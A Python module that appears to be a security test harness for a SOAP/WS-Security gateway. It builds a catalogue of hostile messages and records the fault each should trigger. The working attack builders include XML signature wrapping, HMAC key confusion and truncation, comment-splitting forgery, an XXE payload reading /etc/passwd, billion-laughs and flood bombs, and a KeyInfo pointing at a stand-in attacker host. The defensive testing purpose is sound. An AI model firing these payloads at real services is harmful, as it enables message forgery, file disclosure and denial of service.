"""The attacks: each turns a legitimate signer's fresh envelope into one hostile message.

Families and where they come from:

- ``xsw`` — XML Signature Wrapping: McIntosh & Austel, "XML signature element wrapping attacks
  and countermeasures" (SWS 2005), and the XSW1–8 shapes of Somorovsky et al., "On Breaking SAML:
  Be Whoever You Want to Be" (USENIX Security 2012), here aimed at the signed SOAP Body.
- ``key`` — key and certificate confusion: untrusted, expired or another system's certificate, a
  certificate swapped after signing, keys named by reference only, HMAC keyed with the public
  certificate, and HMAC truncation (CVE-2009-0217).
- ``algorithm`` — weak or dangerous algorithms: SHA-1, MD5, XPath and XSLT transforms.
- ``c14n`` — canonicalisation and comment tricks: inclusive and with-comments C14N, a comment
  splitting a signed value (Duo 2018, CVE-2017-11427), processing instructions.
- ``bomb`` — parser bombs: entity expansion, XXE, attribute and namespace floods, nesting, element
  floods, size.
- ``soap`` — SOAP structure: several operations, extra Body content, two Timestamps, unknown
  mustUnderstand headers, SOAP 1.2, unknown operations, a non-SOAP Content-Type.
- ``signature`` — the basics every verifier must hold: unsigned, edited, bad value, two
  signatures, a signature that does not cover the Body, an expired signed Timestamp, a replay.
- ``auth`` — who may send what: passwords, senderIds, services (gateway admission only).

``gateway_fault`` is what the gateway itself answers (None: it accepts the message, and the probe
says what its answer must show). ``targets`` says where an attack applies: ``gateway`` (a sender
attacking the gateway), ``provider`` (``kzgate attack``: the gateway's name against a provider),
``answer`` (a hostile provider answering the gateway or a client).
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta

import xmlsec
from cryptography.hazmat.primitives import serialization
from lxml import etree

from connectors import SOAP_CONTENT_TYPE as XML_CONTENT
from connectors import SOAP_ENV as SOAP
from connectors import WSSE, WSU, TransportKey, sign_envelope
from connectors.wsse.dsig import DS
from connectors.wsse.transport import BASE64_BINARY, X509V3

WSU_ID = f"{{{WSU}}}Id"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
ALL_TARGETS = frozenset({"gateway", "provider", "answer"})
SENDERS = frozenset({"gateway", "provider"})  # attacks on a request (an answer has no sender)


@dataclass
class AttackKit:
    """What a legitimate signer has, from which every attack is built.

    ``fresh(**changes)`` returns a new unsigned envelope (a new messageId each time) with the
    named fields changed (``sender_id``, ``password``, ``service_id``, ``message_date``);
    ``key`` is the signer's own transport key. The optional keys enable the key-confusion attacks
    that need them: ``other_key`` belongs to another registered system, ``foreign_key`` comes from
    a CA the target must not trust, ``expired_key`` is the signer's identity with a lapsed
    certificate from the trusted CA.
    """

    fresh: Callable[..., etree._Element]
    key: TransportKey
    other_key: TransportKey | None = None
    foreign_key: TransportKey | None = None
    expired_key: TransportKey | None = None
    forbidden_service_id: str | None = None  # a service this signer may not call
    other_sender_id: str | None = None  # another registered system
    now: Callable[[], datetime] = field(default=datetime.now)

    def signed(self, envelope: etree._Element | None = None, **kwargs: object) -> etree._Element:
        envelope = self.fresh() if envelope is None else envelope
        sign_envelope(envelope, self.key, **kwargs)  # type: ignore[arg-type]
        return envelope


@dataclass(frozen=True)
class Probe:
    """One hostile message and how to judge the answer.

    ``must_echo``: when the target accepts, its answer must contain these bytes (the signed value
    a comment tried to truncate) — else it acted on something other than what was signed.
    ``send_twice``: the second delivery is the attack (a replay).
    """

    body: bytes
    content_type: str = XML_CONTENT
    must_echo: bytes | None = None
    send_twice: bool = False


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    description: str
    build: Callable[[AttackKit], Probe | None]  # None: the kit lacks what this attack needs
    gateway_fault: str | None
    targets: frozenset[str] = ALL_TARGETS
    channels: frozenset[str] = frozenset({"sync", "async"})
    needs: str | None = None  # the AttackKit key this attack cannot be built without

    def available(self, kit: AttackKit) -> bool:
        return self.needs is None or getattr(kit, self.needs) is not None


# --- helpers -------------------------------------------------------------------------------------


def _wire(envelope: etree._Element) -> bytes:
    return etree.tostring(envelope, xml_declaration=True, encoding="UTF-8")


def _probe(envelope: etree._Element, **kwargs: object) -> Probe:
    return Probe(_wire(envelope), **kwargs)  # type: ignore[arg-type]


def _soap(local: str) -> str:
    return f"{{{SOAP}}}{local}"


def _ds(local: str) -> str:
    return f"{{{DS}}}{local}"


def _body(envelope: etree._Element) -> etree._Element:
    return next(c for c in envelope if c.tag == _soap("Body"))


def _header(envelope: etree._Element) -> etree._Element:
    for child in envelope:
        if child.tag == _soap("Header"):
            return child
    header = etree.Element(_soap("Header"))
    envelope.insert(0, header)
    return header


def _security(envelope: etree._Element) -> etree._Element:
    return next(c for c in _header(envelope) if c.tag == f"{{{WSSE}}}Security")


def _signature(envelope: etree._Element) -> etree._Element:
    return next(c for c in _security(envelope) if c.tag == _ds("Signature"))


def _child(parent: etree._Element, tag: str) -> etree._Element:
    # Tag comparison, not find(): lxml's matcher misses nodes xmlsec's templates created.
    return next(c for c in parent if c.tag == tag)


def _descendants(parent: etree._Element, tag: str) -> list[etree._Element]:
    return [e for e in parent.iter() if e.tag == tag]


def _forge(body: etree._Element) -> etree._Element:
    """A copy of the Body with its content changed: what the attacker wants acted upon."""
    forged = copy.deepcopy(body)
    for element in forged.iter(etree.Element):
        if etree.QName(element).localname in ("messageId", "serviceId") and element.text:
            element.text = element.text + "-forged"
            break
    return forged


def _wrapped(kit: AttackKit, place: Callable[[etree._Element, etree._Element], None]) -> Probe:
    """Sign, then let ``place`` put the signed Body (arg 1) somewhere and a forged one (arg 2)
    where the receiver reads it."""
    envelope = kit.signed()
    signed_body = _body(envelope)
    forged = _forge(signed_body)
    envelope.replace(signed_body, forged)
    place(envelope, signed_body)
    return _probe(envelope)


def _custom_signed(
    kit: AttackKit,
    *,
    key: TransportKey | None = None,
    c14n: xmlsec.Transform = xmlsec.Transform.EXCL_C14N,
    method: xmlsec.Transform | None = None,
    digest: xmlsec.Transform = xmlsec.Transform.SHA256,
    transforms: tuple[xmlsec.Transform, ...] = (xmlsec.Transform.EXCL_C14N,),
    key_info_cert: TransportKey | None = None,
    envelope: etree._Element | None = None,
) -> etree._Element:
    """A real signature with the given algorithms, in the dominant SHEP layout."""
    key = key or kit.key
    envelope = kit.fresh() if envelope is None else envelope
    body = _body(envelope)
    body_id = body.get(WSU_ID) or f"id-{uuid.uuid4()}"
    body.set(WSU_ID, body_id)
    security = etree.SubElement(
        _header(envelope), f"{{{WSSE}}}Security", nsmap={"wsse": WSSE, "wsu": WSU}
    )
    signature = xmlsec.template.create(envelope, c14n, method or key.signature_transform, ns="ds")
    security.append(signature)
    ref = xmlsec.template.add_reference(signature, digest, uri=f"#{body_id}")
    for transform in transforms:
        xmlsec.template.add_transform(ref, transform)
    key_info = xmlsec.template.ensure_key_info(signature)
    token = etree.SubElement(key_info, f"{{{WSSE}}}SecurityTokenReference")
    ident = etree.SubElement(
        token, f"{{{WSSE}}}KeyIdentifier", ValueType=X509V3, EncodingType=BASE64_BINARY
    )
    ident.text = (key_info_cert or key).certificate_base64
    ctx = xmlsec.SignatureContext()
    ctx.register_id(body, "Id", WSU)
    ctx.key = key.xmlsec_key
    ctx.sign(signature)
    return envelope


def _with_key(attribute: str) -> Callable[[AttackKit], Probe | None]:
    def build(kit: AttackKit) -> Probe | None:
        key = getattr(kit, attribute)
        return None if key is None else _probe(_custom_signed(kit, key=key))

    return build


def _set_algorithm(local: str, uri: str) -> Callable[[AttackKit], Probe]:
    """Sign properly, then name another algorithm (the receiver must refuse before any crypto)."""

    def build(kit: AttackKit) -> Probe:
        envelope = kit.signed()
        element = _descendants(_signature(envelope), _ds(local))[0]
        element.set("Algorithm", uri)
        return _probe(envelope)

    return build


def _hmac_signed(kit: AttackKit, *, truncate_bits: int | None) -> Probe:
    """SignedInfo with an HMAC method; the secret is the certificate's DER (public knowledge)."""
    envelope = kit.signed()
    signature = _signature(envelope)
    signed_info = _child(signature, _ds("SignedInfo"))
    method = _child(signed_info, _ds("SignatureMethod"))
    method.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
    if truncate_bits is not None:
        etree.SubElement(method, _ds("HMACOutputLength")).text = str(truncate_bits)
    secret = kit.key.certificate.public_bytes(serialization.Encoding.DER)
    canonical = etree.tostring(signed_info, method="c14n", exclusive=True)
    mac = hmac.new(secret, canonical, hashlib.sha1).digest()
    if truncate_bits is not None:
        mac = mac[: max(1, truncate_bits // 8)]
    _child(signature, _ds("SignatureValue")).text = base64.b64encode(mac).decode()
    return _probe(envelope)


def _comment_split(kit: AttackKit) -> Probe:
    """A comment splits the signed messageId: its signature stays valid (comments are not
    signed); a receiver that reads the first text node acts on a truncated id."""
    message_id = f"{uuid.uuid4()}"
    envelope = kit.fresh()
    for element in envelope.iter(etree.Element):
        if etree.QName(element).localname == "messageId":
            element.text = message_id
            break
    body = _wire(kit.signed(envelope))
    half = len(message_id) // 2
    split = f"{message_id[:half]}<!---->{message_id[half:]}".encode()
    return Probe(body.replace(message_id.encode(), split, 1), must_echo=message_id.encode())


def _edit_body_text(envelope: etree._Element) -> None:
    for element in _body(envelope).iter(etree.Element):
        if element.text and element.text.strip() and len(element) == 0:
            element.text = element.text.strip() + "0"
            return


def _in_data(kit: AttackKit, node: etree._Element) -> Probe:
    """``node`` appended inside the Body's deepest first element, then signed (sign last)."""
    envelope = kit.fresh()
    target = _body(envelope)[0]
    for element in target.iter(etree.Element):
        if etree.QName(element).localname == "data":
            target = element
            break
    target.append(node)
    return _probe(kit.signed(envelope))


def _raw_with_request(kit: AttackKit, attributes: str) -> Probe:
    """The unsigned operation element carrying ``attributes`` in its start tag, written as text
    (lxml would take minutes to set 100,000 attributes): no key is needed for a parser bomb."""
    envelope = kit.fresh()
    operation = _body(envelope)[0]
    tag = etree.QName(operation)
    body = _wire(envelope)
    marker = f":{tag.localname}" if b":" + tag.localname.encode() in body else tag.localname
    head, sep, tail = body.partition(f"{marker}".encode())
    close = tail.index(b">")
    return Probe(head + sep + tail[:close] + b" " + attributes.encode() + tail[close:])


def _expired_timestamp(kit: AttackKit) -> Probe:
    past = kit.now() - timedelta(hours=2)
    return _probe(kit.signed(with_timestamp=True, ttl_seconds=300, now=past))


def _second_timestamp(kit: AttackKit) -> Probe:
    envelope = kit.signed(with_timestamp=True)
    stamp = next(c for c in _security(envelope) if etree.QName(c).localname == "Timestamp")
    stale = copy.deepcopy(stamp)
    del stale.attrib[WSU_ID]
    stamp.addnext(stale)
    return _probe(envelope)


def _second_signature(kit: AttackKit) -> Probe:
    envelope = kit.signed()
    _security(envelope).append(copy.deepcopy(_signature(envelope)))
    return _probe(envelope)


def _timestamp_only_signed(kit: AttackKit) -> Probe:
    envelope = kit.signed(with_timestamp=True)
    signed_info = _child(_signature(envelope), _ds("SignedInfo"))
    body_id = _body(envelope).get(WSU_ID)
    for ref in _descendants(signed_info, _ds("Reference")):
        if ref.get("URI") == f"#{body_id}":
            signed_info.remove(ref)
    # Re-sign: SignedInfo changed, and the attack is the reference set, not a bad value.
    return _probe(_resign_signed_info(kit, envelope))


def _resign_signed_info(kit: AttackKit, envelope: etree._Element) -> etree._Element:
    signature = _signature(envelope)
    ctx = xmlsec.SignatureContext()
    for element in envelope.iter(etree.Element):
        if element.get(WSU_ID):
            ctx.register_id(element, "Id", WSU)
    ctx.key = kit.key.xmlsec_key
    _child(signature, _ds("SignatureValue")).text = ""
    for ref in _descendants(signature, _ds("Reference")):
        _child(ref, _ds("DigestValue")).text = ""
    ctx.sign(signature)
    return envelope


def _flip_value(kit: AttackKit) -> Probe:
    envelope = kit.signed()
    value = _child(_signature(envelope), _ds("SignatureValue"))
    raw = bytearray(base64.b64decode("".join((value.text or "").split())))
    raw[len(raw) // 2] ^= 0x01
    value.text = base64.b64encode(bytes(raw)).decode()
    return _probe(envelope)


def _swapped_certificate(kit: AttackKit) -> Probe | None:
    if kit.other_key is None:
        return None
    return _probe(_custom_signed(kit, key=kit.other_key, key_info_cert=kit.key))


def _key_info_replaced(make: Callable[[AttackKit, etree._Element], None]) -> Callable:
    def build(kit: AttackKit) -> Probe:
        envelope = kit.signed()
        key_info = _child(_signature(envelope), _ds("KeyInfo"))
        for child in list(key_info):
            key_info.remove(child)
        make(kit, key_info)
        return _probe(envelope)

    return build


def _retrieval_method(kit: AttackKit, key_info: etree._Element) -> None:
    etree.SubElement(
        key_info,
        _ds("RetrievalMethod"),
        URI="http://attacker.invalid/cert.der",
        Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
    )


def _key_value_only(kit: AttackKit, key_info: etree._Element) -> None:
    value = etree.SubElement(etree.SubElement(key_info, _ds("KeyValue")), _ds("RSAKeyValue"))
    numbers = kit.key.certificate.public_key().public_numbers()  # type: ignore[union-attr]
    for name, number in (
        ("Modulus", getattr(numbers, "n", 1)),
        ("Exponent", getattr(numbers, "e", 1)),
    ):
        raw = number.to_bytes((number.bit_length() + 7) // 8, "big")
        etree.SubElement(value, _ds(name)).text = base64.b64encode(raw).decode()


# --- the wrapping shapes -------------------------------------------------------------------------


def _into_header_wrapper(envelope: etree._Element, signed_body: etree._Element) -> None:
    etree.SubElement(_header(envelope), "{urn:attacker}Wrapper").append(signed_body)


def _into_ignored_header(envelope: etree._Element, signed_body: etree._Element) -> None:
    wrapper = etree.SubElement(_header(envelope), "{urn:attacker}Ignored")
    wrapper.set(_soap("mustUnderstand"), "0")
    wrapper.set(_soap("actor"), "urn:attacker:nobody")
    wrapper.append(signed_body)


def _into_signature_object(envelope: etree._Element, signed_body: etree._Element) -> None:
    etree.SubElement(_signature(envelope), _ds("Object")).append(signed_body)


def _renamed_in_header(envelope: etree._Element, signed_body: etree._Element) -> None:
    signed_body.tag = "{urn:attacker}Body"
    _forged_gets_new_id(envelope)
    _header(envelope).append(signed_body)


def _forged_gets_new_id(envelope: etree._Element) -> None:
    _body(envelope).set(WSU_ID, f"id-{uuid.uuid4()}")


def _new_id_in_header(envelope: etree._Element, signed_body: etree._Element) -> None:
    _forged_gets_new_id(envelope)
    _into_header_wrapper(envelope, signed_body)


def _plain_id_on_forged(envelope: etree._Element, signed_body: etree._Element) -> None:
    forged = _body(envelope)
    forged.set("Id", forged.attrib.pop(WSU_ID))
    _into_header_wrapper(envelope, signed_body)


def _xml_id_decoy(envelope: etree._Element, signed_body: etree._Element) -> None:
    decoy = etree.SubElement(_header(envelope), "{urn:attacker}Decoy")
    decoy.set(XML_ID, signed_body.get(WSU_ID))
    decoy.append(signed_body)
    del signed_body.attrib[WSU_ID]
    signed_body.set(WSU_ID, decoy.get(XML_ID))


def _second_body_after(envelope: etree._Element, signed_body: etree._Element) -> None:
    forged = _body(envelope)
    envelope.replace(forged, signed_body)
    envelope.append(forged)


def _deep_in_payload(envelope: etree._Element, signed_body: etree._Element) -> None:
    forged = _body(envelope)
    deepest = forged
    while len(deepest) and isinstance(deepest[-1].tag, str):
        deepest = deepest[-1]
    deepest.append(signed_body)


# --- structure -------------------------------------------------------------------------------


def _two_operations(kit: AttackKit) -> Probe:
    envelope = kit.fresh()
    second = kit.fresh(service_id=kit.forbidden_service_id) if kit.forbidden_service_id else None
    _body(envelope).append(copy.deepcopy(_body(second if second is not None else kit.fresh())[0]))
    return _probe(kit.signed(envelope))


def _extra_element(kit: AttackKit) -> Probe:
    envelope = kit.fresh()
    etree.SubElement(_body(envelope), "{urn:attacker}extra").text = "ignored?"
    return _probe(kit.signed(envelope))


def _must_understand(kit: AttackKit) -> Probe:
    envelope = kit.fresh()
    entry = etree.SubElement(_header(envelope), "{urn:attacker}Routing")
    entry.set(_soap("mustUnderstand"), "1")
    return _probe(kit.signed(envelope))


def _soap12(kit: AttackKit) -> Probe:
    body = _wire(kit.signed())
    return Probe(body.replace(SOAP.encode(), SOAP12.encode()))


def _unknown_operation(kit: AttackKit) -> Probe:
    envelope = kit.fresh()
    operation = _body(envelope)[0]
    operation.tag = f"{{{etree.QName(operation).namespace}}}{etree.QName(operation).localname}X"
    return _probe(kit.signed(envelope))


def _content_type(kit: AttackKit) -> Probe:
    return Probe(_wire(kit.signed()), content_type="application/json")


def _changed(**changes: object) -> Callable[[AttackKit], Probe]:
    def build(kit: AttackKit) -> Probe:
        return _probe(kit.signed(kit.fresh(**changes)))

    return build


def _other_sender(kit: AttackKit) -> Probe | None:
    if kit.other_sender_id is None:
        return None
    return _probe(kit.signed(kit.fresh(sender_id=kit.other_sender_id, password="guess")))


def _forbidden_service(kit: AttackKit) -> Probe | None:
    if kit.forbidden_service_id is None:
        return None
    return _probe(kit.signed(kit.fresh(service_id=kit.forbidden_service_id)))


def _edited(kit: AttackKit) -> Probe:
    envelope = kit.signed()
    _edit_body_text(envelope)
    return _probe(envelope)


def _replay(kit: AttackKit) -> Probe:
    return Probe(_wire(kit.signed()), send_twice=True)


def _billion_laughs(kit: AttackKit) -> Probe:
    entities = "".join(
        f'<!ENTITY l{i} "{"".join(f"&l{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    )
    return Probe(
        (
            f'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY l0 "lol">{entities}]>'
            f'<e:Envelope xmlns:e="{SOAP}"><e:Body>&l9;</e:Body></e:Envelope>'
        ).encode()
    )


def _xxe(kit: AttackKit) -> Probe:
    return Probe(
        b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + f'<e:Envelope xmlns:e="{SOAP}"><e:Body>&x;</e:Body></e:Envelope>'.encode()
    )


def _deep(kit: AttackKit) -> Probe:
    top = etree.Element("a")
    node = top
    for _ in range(5_000):
        node = etree.SubElement(node, "a")
    return _in_data(kit, top)


def _element_flood(kit: AttackKit) -> Probe:
    return Probe(_wire(kit.signed()).replace(b"</soap:Body>", b"<x/>" * 300_000 + b"</soap:Body>"))


def _oversized(kit: AttackKit) -> Probe:
    body = _wire(kit.signed())
    return Probe(body + b"<!--" + b"x" * (11 * 1024 * 1024) + b"-->")


# --- the catalogue ----------------------------------------------------------------------------

_P = "McIntosh & Austel 2005"
_S = "Somorovsky et al. 2012"


def _attacks() -> list[Attack]:
    a = Attack
    return [
        # XML Signature Wrapping
        a(
            "xsw-body-in-header-same-id",
            "xsw",
            f"{_P}: signed Body in a header wrapper, forged Body keeps its id",
            lambda k: _wrapped(k, _into_header_wrapper),
            "Client.Security.SignatureWrapping",
        ),
        a(
            "xsw-body-in-header-new-id",
            "xsw",
            f"{_S} XSW2: signed Body in a header wrapper, forged Body with a new id",
            lambda k: _wrapped(k, _new_id_in_header),
            "Client.Security.SignatureWrapping",
        ),
        a(
            "xsw-body-in-ignored-header",
            "xsw",
            f"{_P}: signed Body in a mustUnderstand=0 header for another actor",
            lambda k: _wrapped(k, _into_ignored_header),
            "Client.Security.SignatureWrapping",
        ),
        a(
            "xsw-body-in-signature-object",
            "xsw",
            f"{_S} XSW5/6: signed Body inside ds:Object of the signature",
            lambda k: _wrapped(k, _into_signature_object),
            "Client.Security.SignatureWrapping",
        ),
        a(
            "xsw-body-renamed-in-header",
            "xsw",
            f"{_S} XSW7: signed Body renamed and moved to the Header",
            lambda k: _wrapped(k, _renamed_in_header),
            "Client.Security.BodyNotSigned",
        ),
        a(
            "xsw-plain-id-on-forged-body",
            "xsw",
            "id carried by wsu:Id on the signed Body and Id on the forged one",
            lambda k: _wrapped(k, _plain_id_on_forged),
            "Client.Security.SignatureWrapping",
        ),
        a(
            "xsw-xml-id-decoy",
            "xsw",
            "the signed id also carried as xml:id by a decoy",
            lambda k: _wrapped(k, _xml_id_decoy),
            "Client.Security.SignatureWrapping",
        ),
        a(
            "xsw-second-body-after",
            "xsw",
            f"{_S} XSW1: forged Body after the signed one",
            lambda k: _wrapped(k, _second_body_after),
            "Client.Soap.NotEnvelope",
        ),
        a(
            "xsw-body-deep-in-payload",
            "xsw",
            f"{_S} XSW3/4: signed Body hidden inside the forged Body's payload",
            lambda k: _wrapped(k, _deep_in_payload),
            "Client.Security.SignatureWrapping",
        ),
        # key and certificate confusion
        a(
            "key-untrusted-ca",
            "key",
            "signed with a certificate from a CA the receiver must not trust",
            _with_key("foreign_key"),
            "Client.Security.CertificateUntrusted",
            needs="foreign_key",
        ),
        a(
            "key-expired-certificate",
            "key",
            "signed with a lapsed certificate of the right identity",
            _with_key("expired_key"),
            "Client.Security.CertificateExpired",
            needs="expired_key",
        ),
        a(
            "key-another-systems-certificate",
            "key",
            "signed with a valid certificate of another registered system",
            _with_key("other_key"),
            "Client.Security.CertificateNotSender",
            needs="other_key",
        ),
        a(
            "key-certificate-swapped",
            "key",
            "signed with another key, KeyInfo names the expected certificate",
            _swapped_certificate,
            "Client.Security.SignatureInvalid",
            needs="other_key",
        ),
        a(
            "key-retrieval-method",
            "key",
            "KeyInfo only points at a remote certificate (never fetch it)",
            _key_info_replaced(_retrieval_method),
            "Client.Security.CertificateMissing",
        ),
        a(
            "key-bare-key-value",
            "key",
            "KeyInfo holds a bare RSA key, no certificate",
            _key_info_replaced(_key_value_only),
            "Client.Security.CertificateMissing",
        ),
        a(
            "key-hmac-public-certificate",
            "key",
            "HMAC keyed with the public certificate (key confusion)",
            lambda k: _hmac_signed(k, truncate_bits=None),
            "Client.Security.AlgorithmNotAllowed",
        ),
        a(
            "key-hmac-truncated",
            "key",
            "CVE-2009-0217: HMACOutputLength 8, a one-byte signature",
            lambda k: _hmac_signed(k, truncate_bits=8),
            "Client.Security.AlgorithmNotAllowed",
        ),
        # algorithms
        a(
            "alg-rsa-sha1",
            "algorithm",
            "SHA-1 signature and digest",
            lambda k: _probe(
                _custom_signed(k, method=xmlsec.Transform.RSA_SHA1, digest=xmlsec.Transform.SHA1)
            ),
            "Client.Security.AlgorithmNotAllowed",
        ),
        a(
            "alg-md5-digest",
            "algorithm",
            "an MD5 digest method",
            _set_algorithm("DigestMethod", "http://www.w3.org/2001/04/xmldsig-more#md5"),
            "Client.Security.AlgorithmNotAllowed",
        ),
        a(
            "alg-xpath-transform",
            "algorithm",
            "an XPath transform (DoS and filtering tricks)",
            _set_algorithm("Transform", "http://www.w3.org/TR/1999/REC-xpath-19991116"),
            "Client.Security.AlgorithmNotAllowed",
        ),
        a(
            "alg-xslt-transform",
            "algorithm",
            "an XSLT transform (code execution in some verifiers)",
            _set_algorithm("Transform", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
            "Client.Security.AlgorithmNotAllowed",
        ),
        # canonicalisation and comments
        a(
            "c14n-inclusive",
            "c14n",
            "inclusive C14N for SignedInfo",
            lambda k: _probe(_custom_signed(k, c14n=xmlsec.Transform.C14N)),
            "Client.Security.AlgorithmNotAllowed",
        ),
        a(
            "c14n-with-comments",
            "c14n",
            "exclusive C14N with comments as the reference transform",
            lambda k: _probe(_custom_signed(k, transforms=(xmlsec.Transform.EXCL_C14N_COMMENTS,))),
            "Client.Security.AlgorithmNotAllowed",
        ),
        a(
            "c14n-comment-splits-signed-value",
            "c14n",
            "CVE-2017-11427 class: a comment inside the signed messageId",
            _comment_split,
            None,
        ),
        a(
            "c14n-processing-instruction",
            "c14n",
            "a processing instruction inside the signed data",
            lambda k: _in_data(k, etree.ProcessingInstruction("evil", "run()")),
            "Client.Soap.ProcessingInstruction",
        ),
        # parser bombs
        a(
            "bomb-billion-laughs",
            "bomb",
            "nested entity expansion",
            _billion_laughs,
            "Client.Xml.EntityDeclaration",
        ),
        a(
            "bomb-xxe",
            "bomb",
            "an external entity (file read / SSRF)",
            _xxe,
            "Client.Xml.ExternalEntity",
        ),
        a(
            "bomb-100k-attributes",
            "bomb",
            "100,000 attributes on one element (quadratic processing)",
            lambda k: _raw_with_request(k, " ".join(f'a{i}="x"' for i in range(100_000))),
            "Client.Xml.TooManyAttributes",
        ),
        a(
            "bomb-100k-namespaces",
            "bomb",
            "100,000 namespace declarations on one element",
            lambda k: _raw_with_request(
                k, " ".join(f'xmlns:p{i}="urn:x:{i}"' for i in range(100_000))
            ),
            "Client.Xml.TooManyNamespaces",
        ),
        a(
            "bomb-deep-nesting",
            "bomb",
            "10,000 nested elements in the payload",
            _deep,
            "Client.Xml.TooDeep",
        ),
        a(
            "bomb-element-flood",
            "bomb",
            "300,000 empty elements",
            _element_flood,
            "Client.Xml.TooManyElements",
        ),
        a("bomb-oversized", "bomb", "11 MiB", _oversized, "Client.Xml.TooLarge"),
        # SOAP structure
        a(
            "soap-two-operations",
            "soap",
            "a second operation in the Body (silently dropped by lenient readers)",
            _two_operations,
            "Client.Soap.MoreThanOneOperation",
        ),
        a(
            "soap-extra-body-element",
            "soap",
            "an element after the operation",
            _extra_element,
            "Client.Soap.MoreThanOneOperation",
        ),
        a(
            "soap-two-timestamps",
            "soap",
            "two wsu:Timestamp, one signed, one not",
            _second_timestamp,
            "Client.Security.TimestampDuplicated",
        ),
        a(
            "soap-must-understand",
            "soap",
            "an unknown header marked mustUnderstand",
            _must_understand,
            "Client.Soap.MustUnderstand",
        ),
        a(
            "soap-1.2-envelope",
            "soap",
            "the SOAP 1.2 namespace",
            _soap12,
            "Client.Soap.NotEnvelope",
        ),
        a(
            "soap-unknown-operation",
            "soap",
            "a Body element that is no operation of the channel",
            _unknown_operation,
            "Client.Soap.UnknownOperation",
        ),
        a(
            "soap-content-type",
            "soap",
            "a signed envelope posted as application/json",
            _content_type,
            "Client.Http.BadRequest",
            SENDERS,
        ),
        # signature basics
        a(
            "sig-unsigned",
            "signature",
            "no signature at all",
            lambda k: _probe(k.fresh()),
            "Client.Security.Unsigned",
        ),
        a(
            "sig-body-edited",
            "signature",
            "the Body changed after signing",
            _edited,
            "Client.Security.DigestMismatch",
        ),
        a(
            "sig-value-flipped",
            "signature",
            "one bit of the signature value flipped",
            _flip_value,
            "Client.Security.SignatureInvalid",
        ),
        a(
            "sig-two-signatures",
            "signature",
            "a second signature in the security header",
            _second_signature,
            "Client.Security.SignatureAmbiguous",
        ),
        a(
            "sig-timestamp-only",
            "signature",
            "a signature that covers the Timestamp but not the Body",
            _timestamp_only_signed,
            "Client.Security.BodyNotSigned",
        ),
        a(
            "sig-expired-timestamp",
            "signature",
            "a signed wsu:Timestamp that expired",
            _expired_timestamp,
            "Client.Security.TimestampExpired",
        ),
        a(
            "sig-replay",
            "signature",
            "the same signed message sent twice",
            _replay,
            "Client.Security.Replay",
            frozenset({"gateway"}),
            frozenset({"sync"}),
        ),
        # authorisation (the gateway's admission)
        a(
            "auth-wrong-password",
            "auth",
            "the right key, a wrong password",
            _changed(password="guess"),
            "Client.Auth.WrongPassword",
            frozenset({"gateway"}),
        ),
        a(
            "auth-another-senders-id",
            "auth",
            "own key, another system's senderId (password oracle)",
            _other_sender,
            "Client.Security.CertificateNotSender",
            frozenset({"gateway"}),
        ),
        a(
            "auth-nbsp-sender-id",
            "auth",
            "senderId with a trailing no-break space",
            lambda k: _probe(k.signed(k.fresh(sender_id=_sender_of(k) + "\u00a0"))),
            "Client.Security.CertificateNotSender",
            frozenset({"gateway"}),
        ),
        a(
            "auth-service-not-allowed",
            "auth",
            "a service this sender may not call",
            _forbidden_service,
            "Client.Auth.ServiceNotAllowed",
            frozenset({"gateway"}),
        ),
        a(
            "auth-unknown-service",
            "auth",
            "a serviceId nobody provides",
            _changed(service_id="NoSuchService_v1"),
            "Client.Routing.UnknownService",
            frozenset({"gateway"}),
        ),
        a(
            "auth-stale-message-date",
            "auth",
            "messageDate an hour old, no Timestamp",
            lambda k: _probe(k.signed(k.fresh(message_date=k.now() - timedelta(hours=1)))),
            "Client.Security.MessageStale",
            frozenset({"gateway"}),
        ),
    ]


def _sender_of(kit: AttackKit) -> str:
    for element in kit.fresh().iter(etree.Element):
        if etree.QName(element).localname == "senderId" and element.text:
            return element.text
    return ""


ATTACKS: tuple[Attack, ...] = tuple(_attacks())
BY_NAME = {attack.name: attack for attack in ATTACKS}


def attacks_for(target: str, channel: str = "sync") -> list[Attack]:
    """The attacks that apply to ``target`` ("gateway", "provider" or "answer") on ``channel``."""
    return [a for a in ATTACKS if target in a.targets and channel in a.channels]
